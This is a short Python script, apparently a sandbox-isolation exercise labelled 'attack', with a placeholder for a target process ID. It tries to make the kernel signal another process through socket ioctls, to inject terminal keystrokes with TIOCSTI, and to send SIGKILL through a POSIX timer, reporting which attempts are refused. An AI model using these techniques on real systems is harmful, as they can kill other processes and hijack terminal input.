"""Has the kernel signal somebody else: by ioctl, by a message queue, by a timer."""
# attack: week=03 exercise=pyramid
import ctypes
import fcntl
import os
import socket

ours, theirs = socket.socketpair()
FIOSETOWN, SIOCSPGRP, FIOASYNC, TIOCSTI = 0x8901, 0x8902, 0x5452, 0x5412
for request in (FIOSETOWN, SIOCSPGRP):
    try:
        fcntl.ioctl(ours, request, (@PID@).to_bytes(4, "little"))
        fcntl.ioctl(ours, FIOASYNC, b"\1\0\0\0")
        theirs.send(b"now")
    except OSError as error:
        print("refused", error)
for descriptor in (0, 1, 2):
    try:
        fcntl.ioctl(descriptor, TIOCSTI, b"x")
    except OSError as error:
        print("refused", error)
libc = ctypes.CDLL(None, use_errno=True)
SIGEV_SIGNAL, SIGEV_THREAD_ID = 0, 4
event = (ctypes.c_int * 16)(0, 0, 9, SIGEV_THREAD_ID, @PID@)
timer = ctypes.c_int()
print(libc.timer_create(1, event, ctypes.byref(timer)), os.strerror(ctypes.get_errno()))
